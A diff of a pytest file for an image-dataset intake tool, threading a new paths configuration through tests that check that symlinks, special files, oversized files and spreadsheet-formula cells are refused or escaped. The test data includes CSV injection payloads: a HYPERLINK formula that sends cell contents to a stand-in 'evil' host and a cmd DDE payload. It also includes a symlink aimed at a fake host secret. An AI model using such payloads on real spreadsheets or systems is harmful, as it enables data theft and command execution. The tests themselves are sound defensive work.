@@ -7,19 +7,22 @@ import os
 import pandas as pd
 import pytest
 
-from oanet.config import DataConfig, SynthConfig
+from oanet.config import DataConfig, PathsConfig, SynthConfig
 from oanet.intake import IntakeError, dataset_version, run
 
 DEMO = SynthConfig(n=3, seed=1, units_per_lot=3)
 SECRET = b"\x89PNG\r\n\x1a\n host secret: db password hunter2"
 
 
+def _paths(tmp_path):
+    return PathsConfig(raw=str(tmp_path / "raw"), incoming=str(tmp_path / "incoming"))
+
+
 @pytest.fixture
 def project(tmp_path):
     """A raw demo set, and an incoming folder with a label file that names every hostile entry."""
-    cfg = DataConfig(raw=str(tmp_path / "raw"), incoming=str(tmp_path / "incoming"), settle_s=0,
-                     max_image_mb=1, max_labels_mb=1)
-    run(cfg, DEMO, progress=False)
+    cfg = DataConfig(settle_s=0, max_image_mb=1, max_labels_mb=1)
+    run(cfg, DEMO, _paths(tmp_path), progress=False)
     (tmp_path / "incoming/images").mkdir(parents=True)
     (tmp_path / "secret.png").write_bytes(SECRET)
     return tmp_path, cfg
@@ -44,7 +47,7 @@ def test_symlinks_special_files_and_hard_links_are_refused_unread_and_left_in_pl
     (images / "ok.png").write_bytes(b"\x89PNG fine")
     _label(tmp_path, ["link.png", "pipe.png", "folder.png", "hard.png", "ok.png"])
     version = dataset_version(tmp_path / "raw")
-    result = run(cfg, DEMO, progress=False)
+    result = run(cfg, DEMO, _paths(tmp_path), progress=False)
     assert result.moved == 1
     reasons = "\n".join(result.rejected)
     for entry, why in [("link.png", "symbolic link"), ("pipe.png", "named pipe"), ("folder.png", "directory"),
@@ -61,13 +64,13 @@ def test_a_symlinked_label_file_or_layout_is_refused(project):
     (tmp_path / "incoming/images/u1.png").write_bytes(b"\x89PNG one")
     (tmp_path / "host.csv").write_text("image,label\nimages/u1.png,1\n")
     (tmp_path / "incoming/labels.csv").symlink_to(tmp_path / "host.csv")
-    result = run(cfg, DEMO, progress=False)
+    result = run(cfg, DEMO, _paths(tmp_path), progress=False)
     assert result.moved == 0 and "labels.csv: a symbolic link (never followed)" in result.rejected
     (tmp_path / "incoming/labels.csv").unlink()
     _label(tmp_path, ["u1.png"])
     (tmp_path / "incoming/layout.yaml").symlink_to(tmp_path / "secret.png")
     with pytest.raises(IntakeError, match="layout.yaml: refused, a symbolic link"):
-        run(cfg, DEMO, progress=False)
+        run(cfg, DEMO, _paths(tmp_path), progress=False)
     assert b"hunter2" not in _everything_in_raw(tmp_path)
 
 
@@ -77,13 +80,13 @@ def test_files_over_the_size_limits_are_refused_with_a_reason(project):
     (images / "huge.png").write_bytes(b"\x89PNG" + b"\0" * (2 << 20))      # 2 MB, over data.max_image_mb = 1
     (images / "ok.png").write_bytes(b"\x89PNG fine")
     _label(tmp_path, ["huge.png", "ok.png"])
-    result = run(cfg, DEMO, progress=False)
+    result = run(cfg, DEMO, _paths(tmp_path), progress=False)
     assert result.moved == 1 and (images / "huge.png").is_file()
     assert "images/huge.png: 2.0 MB, over data.max_image_mb = 1" in result.rejected
     (images / "more.png").write_bytes(b"\x89PNG more")
     rows = "image,label\n" + "images/more.png,1\n" + "images/none.png,0\n" * 70000       # > 1 MB
     (tmp_path / "incoming/labels-big.csv").write_text(rows)
-    result = run(cfg, DEMO, progress=False)
+    result = run(cfg, DEMO, _paths(tmp_path), progress=False)
     assert result.moved == 0
     assert any(r.startswith("labels-big.csv: 1.") and "over data.max_labels_mb = 1" in r for r in result.rejected)
 
@@ -97,7 +100,7 @@ def test_label_cells_that_a_spreadsheet_would_run_are_escaped(project):
                   "defect_type": ['=HYPERLINK("http://evil/?"&A1)', "@SUM(A1)", "Crack"],
                   "lot": ["+cmd|' /C calc'!A0", "-2+3", "LOT-7"]}).to_csv(tmp_path / "incoming/labels.csv",
                                                                            index=False)
-    run(cfg, DEMO, progress=False)
+    run(cfg, DEMO, _paths(tmp_path), progress=False)
     raw = pd.read_csv(tmp_path / "raw/labels.csv", dtype=str, keep_default_na=False).set_index("image")
     assert raw.loc["images/a.png"].tolist() == [" 1", "'=HYPERLINK(\"http://evil/?\"&A1)", "'+cmd|' /C calc'!A0"]
     assert raw.loc["images/b.png"].tolist() == ["'=1+1", "'@SUM(A1)", "'-2+3"]
